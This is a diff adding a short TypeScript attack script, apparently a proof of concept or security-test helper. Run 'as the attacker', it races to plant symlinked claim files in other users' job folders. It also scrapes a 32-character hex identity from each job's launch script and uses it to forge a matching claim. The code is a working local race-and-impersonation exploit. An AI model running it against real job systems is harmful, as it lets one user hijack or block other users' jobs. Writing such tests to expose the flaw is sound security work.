@@ -1,0 +1,34 @@
+/**
+ * Run as the attacker: takes the claims of her own coming jobs as fast as a program can, naming a sleeper of hers. First as the first
+ * release writes a claim, then, once the shim's script can be read, with every long hexadecimal word in it as identity.
+ *
+ *   squat.ts JOBS-FOLDER FIRST LAST
+ */
+import { spawn } from "node:child_process";
+import { readFileSync, rmSync, symlinkSync } from "node:fs";
+
+const [, , jobs, first, last] = process.argv;
+const sleeper = spawn("sleep", ["600"], { stdio: "ignore" });
+const boot = readFileSync("/proc/sys/kernel/random/boot_id", "utf8").trim();
+const ticks = readFileSync(`/proc/${sleeper.pid}/stat`, "utf8")
+  .replace(/^.*\) /s, "")
+  .split(" ")[19];
+const me = `${boot}:${sleeper.pid}:${ticks}`;
+const attempt = (act: () => void) => {
+  try {
+    act();
+  } catch {}
+};
+console.log("ready");
+for (;;) {
+  for (let job = Number(first); job <= Number(last); job++) {
+    const folder = `${jobs}/${job}/1`;
+    attempt(() => symlinkSync(me, `${folder}/claim`));
+    attempt(() => {
+      const [identity] = /\b[0-9a-f]{32}\b/.exec(readFileSync(`${folder}/launch`, "latin1")) ?? [];
+      if (identity === undefined) return;
+      rmSync(`${folder}/claim`, { force: true });
+      symlinkSync(`${me}:${identity}`, `${folder}/claim`);
+    });
+  }
+}
